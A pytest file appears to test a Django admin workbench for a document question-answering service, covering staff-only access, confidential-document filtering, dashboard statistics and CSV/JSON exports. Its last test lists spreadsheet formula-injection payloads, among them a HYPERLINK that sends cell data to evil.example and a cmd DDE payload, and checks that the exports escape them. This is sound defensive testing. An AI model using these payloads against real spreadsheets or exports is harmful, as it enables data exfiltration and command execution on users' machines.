"""Retrieval test, dashboard and exports: staff only, and they show what happened."""
from __future__ import annotations

import csv
import io
import json

import pytest

from conversations.models import Message
from tests.factories import make_document
from workbench.models import RetrievalTest

pytestmark = pytest.mark.django_db

PAGES = ["/admin/retrieval-test/", "/admin/dashboard/", "/admin/exports/", "/admin/exports/conversations.csv",
         "/admin/exports/refused.json"]


@pytest.mark.parametrize("url", PAGES)
def test_workbench_pages_are_staff_only(client, django_user_model, url):
    response = client.get(url)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    user = django_user_model.objects.create_user("reader", password="x", is_staff=False)
    client.force_login(user)
    assert client.get(url).status_code == 302


def test_index_links_the_workbench(admin_client):
    page = admin_client.get("/admin/").content
    assert b'href="/admin/dashboard/"' in page and b'href="/admin/retrieval-test/"' in page and b'href="/admin/exports/"' in page


def test_retrieval_test_explains_each_leg_and_respects_the_identity(admin_client, admin_user):
    public = make_document(title="Qanun Zakat", chunks=["Zakat profesi dibayar melalui Baitul Mal Aceh setiap bulan."])
    secret = make_document(title="Nota Zakat Internal", confidential=True,
                           chunks=["Zakat internal pegawai dicatat dalam buku rahasia Baitul Mal."])
    form = {"query": "zakat Baitul Mal", "mode": "hybrid", "top_k": 10, "identity": "anonymous", "unit": "", "level": ""}
    response = admin_client.post("/admin/retrieval-test/", form, follow=True)
    assert response.status_code == 200
    test = RetrievalTest.objects.get(administrator=admin_user)
    documents = {hit["document_id"] for hit in test.result["hits"]}
    assert str(public.id) in documents and str(secret.id) not in documents
    hit = test.result["hits"][0]
    assert hit["semantic"] and hit["lexical"] and hit["fused"][0] == 1
    assert set(test.result["timings_ms"]) >= {"embed", "semantic", "lexical"} and test.result["lexical_tier"]
    assert f"/admin/retrieval/chunk/{hit['chunk_id']}/change/".encode() in response.content

    admin_client.post("/admin/retrieval-test/", {**form, "identity": "admin"})
    latest = RetrievalTest.objects.filter(administrator=admin_user).first()
    assert str(secret.id) in {hit["document_id"] for hit in latest.result["hits"]}
    page = admin_client.get("/admin/retrieval-test/").content
    assert page.count(b"zakat Baitul Mal") >= 2  # both tests listed as recent


def test_dashboard_and_exports_reflect_answers_refusals_and_feedback(admin_client, api_client):
    make_document(title="Qanun PPID", chunks=["PPID wajib menjawab permohonan informasi paling lambat 10 hari kerja."])
    answered = api_client.post("/query", data={"query": "Berapa hari PPID wajib menjawab permohonan?"},
                               content_type="application/json").json()
    for question in ("Siapa juara sepak bola dunia?", "siapa  JUARA sepak bola dunia"):
        api_client.post("/query", data={"query": question}, content_type="application/json")
    message = Message.objects.get(conversation_id=answered["conversation_id"], role="assistant")
    assert message.latency_ms and message.route == "/query" and message.cited_document_ids
    api_client.post(f"/messages/{message.id}/feedback", data={"rating": "down", "comment": "kurang"}, content_type="application/json")
    refused = Message.objects.filter(role="assistant", fallback_reason__isnull=False)
    assert refused.count() == 2

    page = admin_client.get("/admin/dashboard/?days=7")
    assert page.status_code == 200
    board = page.context["board"]
    assert (board.answers, board.refused, board.feedback_down, board.feedback_total) == (3, 2, 1, 1)
    assert board.refused_questions[0][:2] == ("siapa juara sepak bola dunia", 2)
    assert board.cited_documents[0][1] == "Qanun PPID" and board.latency_p95 >= board.latency_p50 > 0
    assert b"<svg" in page.content and b"Refusals by reason" in page.content

    rows = list(csv.DictReader(io.StringIO(b"".join(admin_client.get("/admin/exports/conversations.csv").streaming_content).decode())))
    assert len(rows) == 6 and {r["feedback_rating"] for r in rows if r["message_id"] == str(message.id)} == {"down"}
    conversations = json.loads(b"".join(admin_client.get("/admin/exports/conversations.json").streaming_content))
    assert len(conversations) == 3 and all(len(c["messages"]) == 2 for c in conversations)
    rated = [m for c in conversations for m in c["messages"] if m["message_id"] == str(message.id)][0]
    assert rated["feedback"][0]["comment"] == "kurang"
    refused_json = json.loads(b"".join(admin_client.get("/admin/exports/refused.json").streaming_content))
    assert refused_json[0]["question"] == "siapa juara sepak bola dunia" and refused_json[0]["times"] == 2
    assert admin_client.get("/admin/exports/refused.xml").status_code == 404


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_cells_never_start_a_formula(admin_client, api_client, formula):
    # Given a feedback comment and a question that a spreadsheet would run as a formula,
    make_document(title="Qanun PPID", chunks=["PPID wajib menjawab permohonan informasi paling lambat 10 hari kerja."])
    answered = api_client.post("/query", data={"query": f"{formula} Berapa hari PPID wajib menjawab?"},
                               content_type="application/json").json()
    message = Message.objects.get(conversation_id=answered["conversation_id"], role="assistant")
    api_client.post(f"/messages/{message.id}/feedback", data={"rating": "down", "comment": formula},
                    content_type="application/json")
    # when the conversations and refused-question exports are read as CSV,
    raw = b"".join(admin_client.get("/admin/exports/conversations.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(raw)))
    refused = b"".join(admin_client.get("/admin/exports/refused.csv").streaming_content).decode()
    # then each such cell is text (a leading apostrophe), its content otherwise kept, and numbers stay numbers.
    [rated] = [r for r in rows if r["message_id"] == str(message.id)]
    assert rated["feedback_comment"] == "'" + formula.strip()      # the feedback route trims the comment
    [question] = [r for r in rows if r["role"] == "user"]
    assert question["content"].startswith("'" + formula.strip())
    assert rated["position"] == "1" and float(rated["latency_ms"]) > 0
    cells = [cell for row in csv.reader(io.StringIO(raw + refused)) for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
